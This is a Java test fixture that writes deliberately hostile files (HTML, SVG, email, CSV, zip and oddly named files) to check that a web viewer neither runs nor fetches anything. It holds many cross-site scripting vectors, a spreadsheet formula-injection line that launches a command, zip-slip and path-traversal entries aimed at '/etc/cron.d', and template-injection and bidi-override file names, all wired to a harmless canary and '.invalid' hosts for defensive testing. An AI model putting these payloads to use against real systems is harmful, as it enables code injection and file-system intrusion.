package org.attest.web;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Files that try to do something to whoever looks at them. Whatever runs sets the global variable
/// `canary`; whatever is fetched comes from a host that ends in `.invalid`.
final class HostileFiles {
  /// Markup that does something wherever it is taken for markup.
  static final List<String> MARKUP =
      List.of(
          "<script>globalThis.canary=1</script>",
          "<img src=x onerror=globalThis.canary=1>",
          "<img src=https://pixel.invalid/p.gif>",
          "<svg onload=globalThis.canary=1><use href=https://sprite.invalid/s.svg#a /></svg>",
          "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
          "<a href=\"javascript:globalThis.canary=1\">here</a>",
          "<form action=https://form.invalid><input autofocus onfocus=globalThis.canary=1></form>",
          "<style>@import url(https://style.invalid/s.css)</style>",
          "\"><body onload=globalThis.canary=1>",
          "' autofocus tabindex=1 onfocus='globalThis.canary=1",
          "<div hx-get=https://htmx.invalid hx-trigger=load data-live=/>",
          "${globalThis.canary=1} {{constructor.constructor('globalThis.canary=1')()}}",
          "@raw @template.layout(frame = null) !{canary} $unsafe{canary}");

  private static final String PAGE =
      """
      <!doctype html><html lang="en"><head>
      <base href="https://base.invalid/">
      <meta http-equiv="refresh" content="0;url=https://refresh.invalid/">
      <meta http-equiv="Content-Security-Policy" content="default-src *">
      <meta name="author" content="&lt;img src=x onerror=globalThis.canary=1&gt;">
      <meta property="og:site_name" content='"&gt;&lt;script&gt;globalThis.canary=1&lt;/script&gt;'>
      <title>&lt;script&gt;globalThis.canary=1&lt;/script&gt; The harbour</title>
      <link rel="stylesheet" href="https://style.invalid/s.css">
      <link rel="prefetch" href="https://prefetch.invalid/p">
      <style>body { background: url(https://style.invalid/b.png) } @import "https://style.invalid/i.css";
      @font-face { font-family: f; src: url(https://style.invalid/f.woff2) } * { font-family: f; display: none }</style>
      <script src="https://script.invalid/s.js"></script>
      <script>globalThis.canary = 1; alert(1); document.write('<img src=https://pixel.invalid/w.gif>')</script>
      </head><body onload="globalThis.canary=1" onpageshow="globalThis.canary=1">
      <article>
      <h1 onclick="globalThis.canary=1">The harbour <script>globalThis.canary=1</script> at night</h1>
      <p style="background:url(https://style.invalid/p.png)">The clerk said that the <b onmouseover="globalThis.canary=1">gate</b>
      had been opened at night <img src="https://pixel.invalid/1.gif" onerror="globalThis.canary=1">.</p>
      <p>Nordwerk denied that the <a href="javascript:globalThis.canary=1">crates</a> had been
      <a href="data:text/html,<script>globalThis.canary=1</script>">sold</a> to the navy.</p>
      <p>The lawyer said that &lt;script&gt;globalThis.canary=1&lt;/script&gt; stood in the contract.</p>
      <svg onload="globalThis.canary=1" xmlns="http://www.w3.org/2000/svg"><script>globalThis.canary=1</script>
      <image href="https://pixel.invalid/s.png"/><foreignObject><iframe src="javascript:parent.canary=1"></iframe></foreignObject>
      <animate onbegin="globalThis.canary=1" attributeName="x" dur="1s"/></svg>
      <math><mtext><style><img src=x onerror=globalThis.canary=1></style></mtext></math>
      <noscript><p title="</noscript><img src=x onerror=globalThis.canary=1>"></noscript>
      <iframe src="https://frame.invalid/"></iframe>
      <iframe srcdoc="&lt;script&gt;parent.canary=1&lt;/script&gt;"></iframe>
      <object data="https://object.invalid/o.swf"></object><embed src="https://embed.invalid/e.swf">
      <video src="https://media.invalid/v.mp4" autoplay onerror="globalThis.canary=1"></video>
      <form action="https://form.invalid/" method="post"><input name="csrf" value="x" autofocus onfocus="globalThis.canary=1">
      <button formaction="javascript:globalThis.canary=1">Add files</button></form>
      <template><script>globalThis.canary=1</script></template>
      <details open ontoggle="globalThis.canary=1"><summary>More</summary>The registry said that the gate was old.</details>
      <div id="ledger" data-live="https://live.invalid/" hx-get="https://htmx.invalid/" hx-trigger="load">The owner said that the yard had closed.</div>
      </article></body></html>
      """;

  private static final String DRAWING =
      """
      <svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.canary=1">
      <script>globalThis.canary=1</script><image href="https://pixel.invalid/d.png"/>
      <text x="10" y="20">The clerk said that the chart had been redrawn.</text></svg>
      """;

  private static final String NAME = "<img src=x onerror=globalThis.canary=1>";

  private HostileFiles() {}

  static void write(Path folder) {
    try {
      for (var file : files().entrySet()) {
        Files.write(folder.resolve(file.getKey()), file.getValue());
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Map<String, byte[]> files() throws IOException {
    var files = new LinkedHashMap<String, byte[]>();
    files.put("page.html", utf8(PAGE));
    files.put("drawing.svg", utf8(DRAWING));
    files.put("notes.txt", utf8(notes()));
    files.put("cells.csv", utf8(cells()));
    files.put("letter.eml", utf8(letter()));
    files.put("archive.zip", archive());
    files.put(NAME + ".txt", utf8("The clerk said that the first name was odd.\n"));
    files.put(
        "\"' onclick='globalThis.canary=1.txt", utf8("The clerk said that the second was.\n"));
    files.put("two\nlines & more.txt", utf8("The clerk said that the third had two lines.\n"));
    files.put("..%2f..%2fetc%2fpasswd.txt", utf8("The clerk said that the fourth led up.\n"));
    files.put("gnp.\u202efdp.txt", utf8("The clerk said that the fifth was turned round.\n"));
    files.put("${7*7} @raw.txt", utf8("The clerk said that the sixth was a template.\n"));
    return files;
  }

  /// Each piece of markup as the content of a claim, then characters that turn text round or are
  /// not seen.
  private static String notes() {
    var notes = new StringBuilder();
    for (var markup : MARKUP) {
      notes.append("The clerk said that ").append(markup).append(" had been written there.\n\n");
    }
    return notes
        .append("The clerk said that the \u202eetag\u202c was \u2066open\u2069 at\u200b night.\n\n")
        .append("The clerk said that the\u0000 gate was \u0007shut\ufeff.\n")
        .toString();
  }

  private static String cells() {
    var lines = new ArrayList<String>(List.of("what,remark"));
    for (var markup : MARKUP) {
      lines.add(
          "=HYPERLINK(\"\"https://cell.invalid\"\"),\"The clerk said that "
              + markup.replace("\"", "\"\"")
              + " had been paid.\"");
    }
    lines.add("@SUM(1+1)*cmd|' /C calc'!A0,+1+1");
    return String.join("\n", lines) + "\n";
  }

  private static String letter() {
    return """
    From: "<script>globalThis.canary=1</script>" <office@harbour.example>
    To: "<img src=x onerror=globalThis.canary=1>" <registry@harbour.example>
    Subject: <svg onload=globalThis.canary=1> ${7*7}
    Date: Mon, 11 Mar 2024 09:30:00 +0100
    MIME-Version: 1.0
    Content-Type: multipart/mixed; boundary=part

    --part
    Content-Type: text/html; charset=utf-8

    <p>The clerk said that the letter<img src="https://pixel.invalid/m.gif" onerror="globalThis.canary=1"> had been opened.</p>
    <script>globalThis.canary=1</script><form action="https://form.invalid"><input autofocus onfocus="globalThis.canary=1"></form>
    --part
    Content-Type: text/html; charset=utf-8
    Content-Disposition: attachment; filename="../../<img src=x onerror=globalThis.canary=1>.html"

    <script>parent.canary=1</script><p>The clerk said that the attachment had been opened.</p>
    --part--
    """;
  }

  private static byte[] archive() throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      for (var name : List.of("../../escape.txt", "/etc/cron.d/x.txt", "a/" + NAME + ".txt")) {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(utf8("The clerk said that the archive held " + name.length() + " letters.\n"));
      }
    }
    return bytes.toByteArray();
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
